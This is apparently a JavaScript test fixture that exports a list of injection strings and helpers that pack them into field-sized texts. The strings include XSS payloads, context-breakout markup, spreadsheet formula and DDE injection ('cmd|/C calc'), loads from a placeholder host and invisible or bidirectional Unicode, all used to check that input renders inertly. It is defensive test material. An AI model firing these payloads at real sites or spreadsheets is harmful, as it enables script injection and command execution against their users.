// Texts that want to be more than text. What gets through sets `owned`, carries the class `owned`, or asks for ELSEWHERE.

export const ELSEWHERE = "elsewhere.invalid";

const THERE = `//${ELSEWHERE}`;
export const STRINGS = [
  "<script>owned=1</script>",
  `<SCRIPT class=owned SRC=${THERE}/s.js></SCRIPT>`,
  "<img class=owned src=x onerror=owned=1>",
  "<img class=owned src=y onerror=alert(1)>",
  "<svg class=owned onload=owned=1>",
  "<svg><animate class=owned onbegin=owned=1 attributeName=x dur=1s>",
  '<a class=owned href="javascript:owned=1">press</a>',
  `<style class=owned>body{background:url(${THERE}/b)}</style>`,
  `<link class=owned rel=stylesheet href=${THERE}/c>`,
  `<meta class=owned http-equiv=refresh content=60;url=${THERE}>`,
  "<iframe class=owned srcdoc='<script>parent.owned=1</script>'></iframe>",
  `<form class=owned action=${THERE}><button>press</button>`,
  "<dialog class=owned open><object class=owned data=z></object>",
  "</template><b class=owned>out</b><template class=owned>",
  "</textarea><b class=owned>out</b>",
  "</title></option></select></bdi><b class=owned>out</b>",
  "--><b class=owned>out</b>]]><![CDATA[<!--",
  '"><i class=owned autofocus tabindex=1 onfocus=owned=1>',
  "' onmouseover='owned=1' class='owned",
  '" data-do="{}" class="owned',
  "&lt;b class=owned&gt; &#60;b&#62; &amp;amp; &nbsp;",
  "{{owned=1}} ${owned=1} %s %n \\u003cb\\u003e __proto__",
  `=HYPERLINK("http:${THERE}","x")`,
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "before \u202eesrever\u202c \u2066held\u2069 \u061cafter",
  "in\u200bvis\u200cib\u200dle\ufeff\u2060",
  "a\u2028line\u2029apart",
  `Z${"\u0351\u0323\u0489".repeat(12)}`,
  "\u{1f600}\u{1f3f4}\u{e0067}\u{e007f} \ufdd0 \u05d0\u0627",
  `<base class=owned href=${THERE}/>`,
];

/// As a screen shows a text: what would change how others are read is a box.
const BOXED = /[\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u061c\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/g;

/// A text as it is looked for on a page: boxed, composed as a scenario composes it, without spaces and line ends.
export const looked = (text) => text.replace(BOXED, "\u25a1").replace(/\s/g, "").normalize("NFC");

/// What a scenario refuses to hold.
const DIRECTIONS = /[\u200e\u200f\u202a-\u202e\u2066-\u2069\u061c]/;

let marks = 0;
/// Texts of at most so many characters that together hold every string, and one that is a single word as long as the
/// field. Each ends with a mark of its own.
export function texts(most, { lines = most >= 2000, word = true, directions = true } = {}) {
  const length = (text) => [...text].length;
  const out = [];
  let now = "";
  const full = () => {
    out.push(`${now}\u00b7${(marks += 1)}\u00b7`);
    now = "";
  };
  for (const text of STRINGS) {
    if (!directions && DIRECTIONS.test(text)) continue;
    if (length(text) + 8 > most) throw new Error(`${text} is longer than a field of ${most}`);
    if (now && length(now) + length(text) + 8 > most) full();
    now += text + (lines ? "\n" : " ");
  }
  full();
  if (word) out.push(`${"W".repeat(Math.min(most, 10_000) - 8)}\u00b7${(marks += 1)}\u00b7`);
  return out;
}

/// One of them after the other, from the first again when they are used up.
export function rotation(most, options) {
  const all = texts(most, options);
  let at = 0;
  return () => {
    at += 1;
    return all[(at - 1) % all.length];
  };
}
